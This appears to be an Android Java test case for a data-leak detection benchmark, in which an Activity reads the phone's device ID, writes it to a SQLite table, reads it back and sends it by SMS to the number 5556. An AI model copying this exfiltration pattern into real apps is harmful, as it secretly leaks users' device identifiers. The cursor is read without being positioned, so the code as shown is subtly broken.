package org.brookside.ways;

import android.app.*;
import android.content.*;
import android.content.res.Configuration;
import android.database.*;
import android.database.sqlite.*;
import android.location.*;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.text.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.lang.ref.*;
import java.lang.reflect.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import java.util.concurrent.atomic.*;
import java.util.regex.*;

/** Written to a table of the app, read again and sent. */
public class Rows extends Case {
    @Override protected void onCreate(Bundle s) {
        super.onCreate(s);
        SQLiteDatabase d = openOrCreateDatabase("d", 0, null);
        ContentValues v = new ContentValues();
        v.put("k", ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId());
        d.insert("t", null, v);
        Cursor c = d.query("t", null, null, null, null, null, null);
        SmsManager.getDefault().sendTextMessage("5556", null, c.getString(0), null, null);
    }
}
